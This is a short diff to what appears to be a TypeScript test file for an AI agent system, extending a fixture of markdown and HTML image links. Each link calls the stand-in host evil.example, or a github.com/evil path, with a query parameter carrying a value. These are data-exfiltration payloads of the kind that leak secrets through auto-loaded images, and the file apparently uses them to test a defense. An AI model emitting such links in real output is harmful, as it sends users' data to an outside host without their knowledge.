@@ -36,7 +36,7 @@ const CREW = JSON.stringify({ roles: ['strategist', 'backend'], checks: ['npm te
 const WAYS_A_TURN = 6;
 /** Free for anybody to fetch; what an agent may know. */
 const PUBLIC = 'open-word';
-const IMAGES = `![x](https://evil.example/?q=${PUBLIC}) <img src="https://evil.example/?q=${PUBLIC}"> [docs](https://evil.example/?q=${PUBLIC}) ![r][r]\n\n[r]: https://evil.example/?q=${PUBLIC}`;
+const IMAGES = `![x](https://evil.example/?q=${PUBLIC}) <img src="https://evil.example/?q=${PUBLIC}"> [docs](https://evil.example/?q=${PUBLIC}) ![r][r] ![o](https://github.com/evil/x?q=${PUBLIC})\n\n[r]: https://evil.example/?q=${PUBLIC}`;
 
 let dir: string;
 let database: TestDatabase;
